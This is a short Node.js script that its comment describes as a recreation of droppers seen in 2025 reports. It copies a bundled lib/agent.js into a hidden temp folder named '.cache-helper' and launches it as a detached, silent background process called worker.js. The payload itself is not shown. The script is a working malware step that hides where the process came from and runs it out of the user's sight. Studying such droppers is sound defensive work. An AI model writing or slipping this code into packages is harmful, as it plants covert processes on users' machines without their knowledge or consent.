// source: droppers that copy their daemon out of the package and start it detached (2025 reports); written here
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');

const home = path.join(os.tmpdir(), '.cache-helper');
fs.mkdirSync(home, { recursive: true });
const daemon = path.join(home, 'worker.js');
fs.copyFileSync(path.join(__dirname, '..', 'lib', 'agent.js'), daemon);
spawn(process.execPath, [daemon], { detached: true, stdio: 'ignore' }).unref();
